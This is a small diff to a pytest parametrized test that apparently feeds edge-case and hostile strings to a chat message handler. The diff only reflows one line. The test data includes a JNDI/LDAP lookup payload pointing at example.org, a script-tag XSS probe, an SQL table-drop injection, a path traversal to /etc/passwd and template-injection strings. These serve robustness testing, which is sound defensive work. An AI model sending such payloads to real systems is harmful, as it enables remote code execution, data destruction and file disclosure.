@@ -15,7 +15,8 @@ LINKS = re.compile(r"<[^>]*>")
 @pytest.mark.parametrize(
     "text",
     [
-        "", " ", "\n\n", "🌍🌱💻", ":wave:", "???", "<!channel>", "<@U07BOT0001>", "*_~`>>> ```", "\x00\x01\x02",
+        "", " ", "\n\n",
+        "🌍🌱💻", ":wave:", "???", "<!channel>", "<@U07BOT0001>", "*_~`>>> ```", "\x00\x01\x02",
         "\u202e\u202dabc\u202c", "{{7*7}}", "{% for x in y %}", "${jndi:ldap://example.org/a}",
         "<script>alert(1)</script>",
         "'; DROP TABLE users; --", "../../../../etc/passwd", "a" * 40_000, "spam " * 8_000, "(" * 5_000,
